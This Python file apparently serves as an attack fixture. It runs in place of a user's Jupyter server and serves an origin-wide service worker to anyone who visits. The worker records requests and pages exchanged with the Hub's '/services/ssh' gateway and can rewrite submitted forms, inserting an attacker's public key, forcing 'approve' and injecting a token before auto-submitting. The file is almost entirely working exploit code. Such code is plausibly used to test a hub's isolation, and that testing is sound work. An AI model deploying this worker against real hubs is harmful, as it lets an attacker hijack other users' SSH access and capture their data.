"""What bob runs in place of his Jupyter server: pages and service workers that attack who visits them. Standard library only.

``/user/bob/evil`` is a page of the Hub's origin. ``/user/bob/worker.js?by=…`` is a service worker for the whole origin that keeps
what it reads of the gateway's pages, and what is sent to them. It comes to that

- by=fetch: by passing requests on by itself
- by=preload: by having the browser ask in advance
- by=race: by having GETs sent beside itself too; it lets forms go by
- by=race-post: as race, forms too
- by=swap&key=…&token=…: by keeping forms back, and sending others with what it found in them
"""

from __future__ import annotations

import os
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

WORKER = """
const asked = new URL(location).searchParams, by = asked.get("by");
const taken = [];
let goesBy = false;

self.addEventListener("install", event => {
  self.skipWaiting();
  if (by.startsWith("race"))
    for (const requestMethod of ["GET", "POST"])
      event.waitUntil(event.addRoutes({
        condition: {urlPattern: "/services/ssh*", requestMethod},
        source: "race-network-and-fetch-handler",
      }));
});
self.addEventListener("activate", event => event.waitUntil((async () => {
  await self.registration.navigationPreload.enable();
  await self.clients.claim();
})()));

self.addEventListener("fetch", event => {
  const {request} = event;
  if (!request.url.includes("/services/ssh")) return;
  const sends = request.method === "POST";
  if (by === "race" && sends) return;
  if (by === "swap" && (!sends || goesBy)) { goesBy = false; return; }
  event.respondWith((async () => {
    const sent = await request.clone().text();
    if (by === "swap") return swapped(request.url, sent);
    const answer = by === "preload" && await event.preloadResponse || await fetch(request);
    taken.push([request.method, answer.status, sent, await answer.clone().text()]);
    return answer;
  })());
});

function swapped(url, sent) {
  const fields = new URLSearchParams(sent);
  taken.push(["POST", 0, sent, ""]);
  if (fields.has("public_key")) fields.set("public_key", asked.get("key"));
  if (fields.has("decision")) fields.set("decision", "approve");
  if (fields.has("token")) fields.set("token", asked.get("token"));
  goesBy = true;
  const page = `<!doctype html><body><script>
    const form = document.createElement("form");
    form.method = "post";
    form.action = ${JSON.stringify(url)};
    for (const [name, value] of ${JSON.stringify([...fields])})
      form.append(Object.assign(document.createElement("input"), {name, value}));
    document.body.append(form);
    form.submit();
  </script>`;
  return new Response(page, {headers: {"Content-Type": "text/html"}});
}

self.addEventListener("message", event => event.source.postMessage(taken));
"""


class Handler(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        worker = urlsplit(self.path).path.endswith("/worker.js")
        body = WORKER.encode() if worker else b"<!doctype html><title>evil</title><h1>Look at my plots</h1>"
        self.send_response(200)
        self.send_header("Content-Type", "text/javascript" if worker else "text/html")
        self.send_header("Service-Worker-Allowed", "/")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        pass


if __name__ == "__main__":
    url = urlsplit(os.environ["JUPYTERHUB_SERVICE_URL"])
    assert url.hostname
    assert url.port
    ThreadingHTTPServer((url.hostname, url.port), Handler).serve_forever()
